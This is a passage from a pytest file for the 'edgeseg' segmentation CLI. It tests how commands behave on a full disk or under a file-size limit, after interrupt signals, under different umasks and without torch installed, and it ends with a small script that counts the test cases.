    res = run_cli(["train", "--out", str(old), "--resume"])
    assert res.exit_code == 2 and "remove" in res.stderr
    shutil.rmtree(old)  # the advice: remove the folder and re-run (here: a tiny run)
    res = run_cli(["train", "--out", str(old), "--model", "lite-unet", "--data", "synthetic", "--input",
                   "32x32", "--batch", "2", "--synthetic-num", "4", "--max-steps", "1", "--threads", "1"])
    assert res.exit_code == 0, res.stderr


# ---- a real full disk -------------------------------------------------------------------------------

@dataclass(frozen=True)
class DiskCase:
    """A run whose output goes to a full file system (``{disk}``). ``keep_kib``: free space left
    (tmpfs); ``fsize_kib``: the file-size limit used instead where no tmpfs can be mounted;
    ``place``: an earlier good artifact put on the disk first, which must survive unchanged."""

    id: str
    command: str
    argv: list[str]
    keep_kib: int = 0
    fsize_kib: int = 1
    place: Callable[[Path, Path], None] | None = None


FULL = r"disk is full|KiB free|file-size limit|No space left"


def _earlier(src: str, dst: str) -> Callable[[Path, Path], None]:
    """Copy ws/src (and its card) to disk/dst: the good artifact a failed run must not touch."""
    def place(ws: Path, disk: Path) -> None:
        shutil.copy(ws / src, disk / dst)
        shutil.copy(ws / (src + ".json"), disk / (dst + ".json"))
    return place


DISK_CASES = [
    DiskCase("export", "export", ["export", f"{{ws}}/{CKPT}", "-o", "{disk}/m.onnx", "--no-simplify"],
             keep_kib=8, fsize_kib=8, place=_earlier("model.onnx", "m.onnx")),
    DiskCase("calibrate", "calibrate", [*CALIBRATE[:5], "{disk}/t.int8.onnx", "--method", "minmax"],
             place=_earlier("tiny.int8.onnx", "t.int8.onnx")),
    DiskCase("convert-fp16", "convert-fp16", [*FP16[:3], "{disk}/t.fp16.onnx"]),
    DiskCase("train", "train", ["train", "--out", "{disk}/run", "--model", "unet", "--model-arg", "width=8",
                                "--data", "synthetic", "--input", "32x32", "--batch", "2", "--synthetic-num", "4",
                                "--max-steps", "1", "--threads", "1"], keep_kib=32, fsize_kib=16),
    DiskCase("stream-stats", "stream", [*STREAM, "--stats", "{disk}/s.jsonl"]),
    DiskCase("stream-report", "stream", [*STREAM, "--report", "{disk}/r.json"],
             place=lambda ws, disk: (disk / "r.json").write_text('{"earlier": "good"}\n')),
    DiskCase("eval", "eval", [*EVAL[:-1], "{disk}/ev"],
             place=lambda ws, disk: (disk / "ev.json").write_text('{"earlier": "good"}\n')),
    DiskCase("calib-set", "calib-set", ["calib-set", "{ws}/data/images", "--input", "20x24", "--num", "4",
                                        "-o", "{disk}/set.json"]),
]


def _mount_tmpfs(folder: Path, size_kib: int) -> bool:
    folder.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0 or shutil.which("mount") is None:
        return False
    res = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_kib}k,mode=0777", "tmpfs", str(folder)],
                         capture_output=True)
    return res.returncode == 0


@pytest.fixture()
def disk(tmp_path: Path) -> Iterator[Path | None]:
    """A 2 MiB tmpfs (None where mounting is not allowed: the cases then use ``ulimit -f``)."""
    folder = tmp_path / "disk"
    mounted = _mount_tmpfs(folder, 2048)
    try:
        yield folder if mounted else None
    finally:
        if mounted:
            subprocess.run(["umount", "-l", str(folder)], check=False)


def fill(folder: Path, keep_kib: int) -> None:
    """Write a ballast file until ``keep_kib`` KiB stay free on ``folder``'s file system."""
    st = os.statvfs(folder)
    extra = st.f_bavail * st.f_frsize - keep_kib * 1024
    with open(folder / "ballast", "wb") as f:
        while extra > 0:
            n = min(extra, 1 << 20)
            try:
                f.write(b"\0" * n)
                f.flush()
            except OSError:
                break
            extra -= n


def _subprocess_cli(argv: list[str], fsize_kib: int | None, timeout: float = 300) -> subprocess.CompletedProcess:
    def limit() -> None:
        if fsize_kib is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize_kib * 1024, resource.RLIM_INFINITY))

    return subprocess.run([sys.executable, "-m", "edgeseg.cli.main", *argv], preexec_fn=limit,
                          capture_output=True, text=True, timeout=timeout, cwd=REPO)


@pytest.mark.slow
@pytest.mark.parametrize("case", DISK_CASES, ids=[f"full-disk:{c.command}:{c.id}" for c in DISK_CASES])
def test_full_disk(case: DiskCase, base: Path, tmp_path: Path, disk: Path | None,
                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Exit 1, one line naming the full disk, nothing earlier replaced, no temporary file left."""
    ws = copy_ws(base, tmp_path / "ws")
    monkeypatch.setenv("EDGESEG_CACHE", str(tmp_path / "cache"))
    target = disk if disk is not None else tmp_path / "limited"
    target.mkdir(exist_ok=True)
    if case.place is not None:
        case.place(ws, target)
    if disk is not None:
        fill(disk, case.keep_kib)
    before = snapshot(ws, target)
    argv = [a.replace("{disk}", str(target)).replace("{ws}", str(ws)) for a in case.argv]
    if disk is not None:
        res = run_cli(argv)
        code, stderr = res.exit_code, res.stderr
    else:  # no tmpfs here: the same run under a file-size limit (EFBIG)
        proc = _subprocess_cli(argv, case.fsize_kib)
        code, stderr = proc.returncode, proc.stderr
    errors = [ln for ln in stderr.splitlines() if ln.startswith("error")]
    assert code == 1, (code, stderr)
    # train prints progress on stderr: the failure is one error line, and the last one
    assert "Traceback" not in stderr and len(errors) == 1 and stderr.rstrip().endswith(errors[0]), stderr
    assert __import__("re").search(FULL, errors[0]), errors[0]
    after = snapshot(ws, target)
    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    # a run that failed mid-way may keep what it finished (train: config.json, a partial stats file);
    # it may never replace what was there, nor leave a temporary file
    assert not {k for k in changed if k in before}, changed
    assert not [k for k in changed if k.endswith(".tmp") or ".partial" in k], changed


@pytest.mark.slow
@pytest.mark.parametrize("how", ["ulimit-export", "ulimit-stream"])
def test_file_size_limit(how: str, base: Path, tmp_path: Path) -> None:
    """EFBIG (``ulimit -f``) always, tmpfs or not: one line, exit 1, the earlier file kept."""
    ws = copy_ws(base, tmp_path / "ws")
    (tmp_path / "out").mkdir()
    earlier = tmp_path / "out" / "m.onnx"
    shutil.copy(ws / "model.onnx", earlier)
    shutil.copy(ws / "model.onnx.json", tmp_path / "out" / "m.onnx.json")
    if how == "ulimit-export":
        argv = ["export", str(ws / CKPT), "-o", str(earlier), "--no-simplify"]
        limit = 8
    else:
        argv = [*[_fill(a, ws) for a in STREAM[:4]], "--headless", "--quiet", "--max-frames", "200",
                "--synthetic-size", "240x320", "--save", str(tmp_path / "out" / "v.avi"),
                "--report", str(tmp_path / "r.json")]
        limit = 2048
    before = snapshot(tmp_path / "out")
    proc = _subprocess_cli(argv, limit)
    assert proc.returncode == 1, proc.stderr
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert "Traceback" not in proc.stderr and len(lines) == 1, proc.stderr
    assert "file-size limit" in lines[0], lines[0]
    after = snapshot(tmp_path / "out")
    assert all(after.get(k) == v for k, v in before.items())
    if how == "ulimit-stream":
        from edgeseg.runtime.sinks import video_frames

        report = json.loads((tmp_path / "r.json").read_text())
        assert report["frames"] == video_frames(tmp_path / "out" / "v.avi") > 0


def _stream_full(tmp_path: Path, disk: Path, keep_kib: int, frames: int = 400) -> tuple[Any, dict[str, Any]]:
    from tinyseg import write_tiny_onnx

    fill(disk, keep_kib)
    model = write_tiny_onnx(tmp_path, name="fast.onnx")  # a 1x1 conv: the test is about the disk
    argv = ["stream", str(model), "--source", "synthetic",
            "--synthetic-size", "240x320", "--headless", "--quiet", "--max-frames", str(frames),
            "--save", str(disk / "v.mp4"), "--report", str(tmp_path / "r.json")]
    res = run_cli(argv)
    return res, json.loads((tmp_path / "r.json").read_text())


@pytest.mark.slow
def test_stream_save_on_full_disk_stops_and_counts(tmp_path: Path, disk: Path | None) -> None:
    """The issue's figure: exit 1, and frames reported == frames in the video file."""
    from edgeseg.runtime.sinks import video_frames

    if disk is None:
        pytest.skip("no tmpfs here (not root); test_file_size_limit[ulimit-stream] covers the limit")
    res, report = _stream_full(tmp_path, disk, 1300)  # room for a few 240x320 frames, then full
    assert res.exit_code == 1, res.stderr
    lines = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: stream stopped: cannot write --save video"), lines
    held = video_frames(disk / "v.mp4")
    assert 0 < report["frames"] < 400 and report["frames"] == held, (report["frames"], held)
    assert report["stop_reason"].startswith("error: cannot write --save video")


@pytest.mark.slow
def test_stream_lost_frames_are_caught_at_close(tmp_path: Path, disk: Path | None,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """Backstop: with the room check disabled the writer loses frames silently on the full disk; the
    count of frames in the finished file catches it (exit 1, the report says how many)."""
    from edgeseg.runtime import sinks

    if disk is None:
        pytest.skip("no tmpfs here (not root)")
    monkeypatch.setattr(sinks, "check_room", lambda *a, **k: None)
    res, report = _stream_full(tmp_path, disk, 64, frames=120)  # ~3 KiB a frame: full long before 120
    assert res.exit_code == 1, res.stderr
    assert "holds" in report["stop_reason"] and "of 120 frames written" in report["stop_reason"]
    assert not (disk / "v.mp4").exists()  # nothing incomplete under the final name


# ---- exit codes, modes, missing torch ---------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
def test_stream_signal_exit_code(sig: signal.Signals, base: Path, tmp_path: Path) -> None:
    """130 / 143 after a signal, like train; the report is still written and says why."""
    stats, report = tmp_path / "s.jsonl", tmp_path / "r.json"
    argv = [sys.executable, "-m", "edgeseg.cli.main", "stream", str(base / "model.onnx"), "--source",
            "synthetic", "--synthetic-fps", "30", "--headless", "--quiet", "--stats", str(stats),
            "--report", str(report)]
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and (not stats.exists() or not stats.read_text().count("\n")):
        time.sleep(0.1)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 128 + sig, err
    assert "Traceback" not in err
    assert json.loads(report.read_text())["stop_reason"] == f"interrupted ({sig.name})"


@pytest.mark.parametrize("umask", [0o022, 0o077], ids=["umask022", "umask077"])
def test_atomic_artifacts_follow_the_umask(umask: int, base: Path, tmp_path: Path) -> None:
    """Files written through the atomic helper get 0o666 & ~umask, like files written directly."""
    old = os.umask(umask)
    try:
        res = run_cli(["calib-set", str(base / "data" / "images"), "--input", "20x24", "--num", "4",
                       "-o", str(tmp_path / "set.json")])
        plain = tmp_path / "plain.txt"
        plain.write_text("x")
    finally:
        os.umask(old)
    assert res.exit_code == 0, res.stderr
    mode = (tmp_path / "set.json").stat().st_mode & 0o777
    assert mode == 0o666 & ~umask == plain.stat().st_mode & 0o777


NO_TORCH = ("import sys; sys.modules['torch'] = None; sys.argv = ['edgeseg', *sys.argv[1:]]; "
            "from edgeseg.cli.main import main; main()")


@pytest.mark.slow
@pytest.mark.parametrize("argv", [["models"], ["info", "unet"], ["export", "{ws}/ckpt", "-o", "{tmp}/m.onnx"],
                                  ["train", "--out", "{tmp}/run", "--model", "unet", "--data", "synthetic",
                                   "--input", "32x32"]], ids=["models", "info", "export", "train"])
def test_missing_torch_is_one_line(argv: list[str], base: Path, tmp_path: Path) -> None:
    """A runtime-only install (torch missing): one line naming the extra, exit 2, nothing written."""
    args = [a.replace("{ws}", str(base)).replace("{tmp}", str(tmp_path)) for a in argv]
    proc = subprocess.run([sys.executable, "-c", NO_TORCH, *args], capture_output=True, text=True,
                          timeout=120, cwd=REPO)
    assert proc.returncode == 2, proc.stderr
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert lines == ["error: this command needs torch, which is not installed (a runtime-only install); "
                     "install it with: pip install 'edgeseg[train]'"], proc.stderr
    assert not list(tmp_path.iterdir())


# ---- the count by command and class (docs/reliability.md) ------------------------------------------

OTHER = [("full-disk", c.command) for c in DISK_CASES] + [
    ("full-disk", "export"), ("full-disk", "stream"), ("full-disk", "stream"), ("full-disk", "stream"),
    ("code-from-data", "stream"), ("advice", "train"), ("advice", "stream"), ("advice", "train"),
    ("exit-code", "stream"), ("exit-code", "stream"), ("exit-code", "calib-set"), ("exit-code", "calib-set"),
    ("missing-torch", "models"), ("missing-torch", "info"), ("missing-torch", "export"),
    ("missing-torch", "train")]


def counts() -> tuple[Counter[str], Counter[str], int]:
    pairs = [(c.cls, c.command) for c in CASES] + OTHER
    return Counter(p[0] for p in pairs), Counter(p[1] for p in pairs), len(pairs)


if __name__ == "__main__":
    by_class, by_command, total = counts()
    print(f"{total} cases")
    print("| class | cases |\n|---|---:|")
    for k, v in sorted(by_class.items()):
        print(f"| {k} | {v} |")
    print("\n| command | cases |\n|---|---:|")
    for k, v in sorted(by_command.items()):
        print(f"| {k} | {v} |")
